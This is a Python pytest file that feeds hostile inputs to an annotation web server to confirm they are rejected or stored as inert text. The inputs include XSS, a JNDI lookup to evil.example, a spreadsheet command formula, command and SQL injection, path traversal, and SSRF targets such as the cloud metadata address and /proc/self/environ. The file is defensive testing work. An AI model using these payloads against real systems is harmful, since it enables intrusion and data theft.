"""Hostile inputs and the answers: `docs/security.md` lists those here and in `tests/hostile.py`."""

import httpx
import psutil
import pytest

from core.plans import Plan
from tests import factories
from tests.hostile import MASKS, PICTURES
from tests.server.hostile.asking import JSON, PATIENT, said
from tests.server.people import Team, assemble
from tests.serving import Server

pytestmark = pytest.mark.slow

SPARE_BYTES = 50_000_000


@pytest.mark.parametrize("name", MASKS)
def test_masks(server: Server, team: Team, name: str):
    content, expected = MASKS[name]
    lease = team.annotator.lease(team.project)
    before = resident(server)
    answer = team.annotator.put_label(lease, content=content, headers={"Content-Type": "image/png"})
    assert said(answer) == expected
    assert resident(server) - before < SPARE_BYTES
    if expected == "201":
        kept = team.annotator.get(f"/regions/{lease['region_id']}/label").content
        assert len(kept) < 1000
        assert b"script" not in kept


@pytest.fixture(scope="module")
def predicting(team: Team) -> Team:
    """A team with a model that looks at pictures."""
    made = assemble(team.client)
    made.labelling(number=1)
    factories.submit(factories.lease(made.project, made.admin.user)[0])
    factories.train(factories.cycle(made.project, made.admin.user, Plan(regions=0)))
    return made


@pytest.mark.parametrize("name", PICTURES)
def test_pictures(server: Server, predicting: Team, name: str):
    content, expected = PICTURES[name]
    before = resident(server)
    answer = predicting.reviewer.post(f"{predicting.path}/predictions", content=content)
    assert said(answer) == expected
    assert resident(server) - before < SPARE_BYTES
    assert helpers(server) == []


def helpers(server: Server) -> list[psutil.Process]:
    """The server's processes that decode pictures."""
    assert server.process is not None
    found = psutil.Process(server.process.pid).children()
    return [each for each in found if "core.decoder" in each.cmdline()]


def resident(server: Server) -> int:
    assert server.process is not None
    size: int = psutil.Process(server.process.pid).memory_info().rss
    return size


DOCUMENTS: dict[str, tuple[bytes, str]] = {
    "a million brackets": (b"[" * 1_000_000, "422 validation_failed"),
    "10 MB": (b'{"name": "' + b"x" * 10_000_000 + b'"}', "413 too_large"),
    "a key twice": (b'{"name": "a", "name": "b"}', "422 validation_failed"),
    "NaN": (b'{"name": "a", "is_admin": NaN}', "422 validation_failed"),
    "1e400": (b'{"name": "a", "is_admin": 1e400}', "422 validation_failed"),
    "5,000 digits": (b'{"name": ' + b"1" * 5000 + b"}", "422 validation_failed"),
    "a byte order mark": (b'\xef\xbb\xbf{"name": "a"}', "422 validation_failed"),
    "UTF-16": ('{"name": "a"}'.encode("utf-16"), "422 validation_failed"),
    "invalid UTF-8": (b'{"name": "\xff"}', "422 validation_failed"),
    "half a character pair": (b'{"name": "\\ud800"}', "422 validation_failed"),
    "NUL": (b'{"name": "a\\u0000b"}', "422 validation_failed"),
    "a field nobody knows": (b'{"name": "a", "__proto__": {}}', "422 validation_failed"),
    "cut off": (b'{"name": "a"', "422 validation_failed"),
}


@pytest.mark.parametrize("name", DOCUMENTS)
def test_json(team: Team, name: str):
    content, expected = DOCUMENTS[name]
    answer = team.site_admin.post("/users", content=content, headers=JSON)
    assert said(answer).replace("400 bad_request", "422 validation_failed") == expected


NAMES = {
    "right-to-left": "safe\u202egnp.exe",
    "four bytes": "😀𝕏",
    "a device": "CON",
    "markup": "<script>alert(1)</script>",
    "a lookup": "${jndi:ldap://evil.example/a}",
    "a formula": '=cmd|"/C calc"!A0',
    "a template": "{{7*7}}",
    "a command": ";touch x",
    "a path": "../../etc/passwd",
    "SQL": "'; DROP TABLE users; --",
}


@pytest.mark.parametrize("name", NAMES)
def test_names_are_kept_as_they_are_and_never_parsed(team: Team, name: str):
    text = NAMES[name]
    made = team.site_admin.post("/users", {"name": text})
    assert said(made) == "201"
    assert made.json()["name"] == text
    classes = [{"value": n, "name": f"{text} {n}", "color": "#808080"} for n in range(2)]
    project = {"name": text, "cell_px": 10, "classes": classes, "recipe": factories.RECIPE}
    answer = team.site_admin.post("/projects", project)
    assert said(answer) in ("201", "422 validation_failed")
    if answer.status_code == 201:
        pages = [shown(team, "/"), shown(team, f"/projects/{answer.json()['id']}/annotate")]
        assert not any("<script>alert" in page for page in pages)
        assert not any("49" in page and name == "a template" for page in pages[1:])


def shown(team: Team, path: str) -> str:
    """The page as the site admin's browser gets it."""
    headers = {"Cookie": f"tessera_session={team.site_admin.token}"}
    page = httpx.get(f"{team.client.base_url}{path}", headers=headers, **PATIENT)
    assert page.status_code == 200
    return page.text


@pytest.mark.parametrize("text", ["", "a\nb", "a\x7f", "x" * 10_000, " "])
def test_names_that_no_one_could_read_are_refused(team: Team, text: str):
    assert said(team.site_admin.post("/users", {"name": text})) == "422 validation_failed"


PLACES = (
    *("file:///etc/passwd", "gopher://127.0.0.1/", "http://169.254.169.254/latest", "/etc"),
    *("s3://bucket/images", "../../etc", "\\\\host\\share", "/proc/self/environ", "a\0b"),
)


@pytest.mark.parametrize("place", PLACES)
def test_nothing_is_imported_but_from_the_folders_that_may(team: Team, place: str):
    answer = team.admin.post(f"{team.path}/imports", {"path": place})
    assert said(answer) in ("422 path_not_allowed", "422 validation_failed", "422 layout_unknown")


def test_no_secret_is_written_to_the_log(server: Server, team: Team):
    password = "a password for the log"
    assert team.reviewer.put("/users/me/password", {"password": password}).status_code == 204
    data = {"name": team.reviewer.user.name, "password": password}
    page = {"Sec-Fetch-Site": "same-origin"}
    signed = httpx.post(f"{server.url}/sign-in", data=data, headers=page, **PATIENT)
    assert signed.status_code == 303
    log = server._log.read_text()
    assert "/sign-in" in log
    secrets = (password, team.reviewer.token, signed.cookies["tessera_session"])
    assert not any(secret in log for secret in secrets)
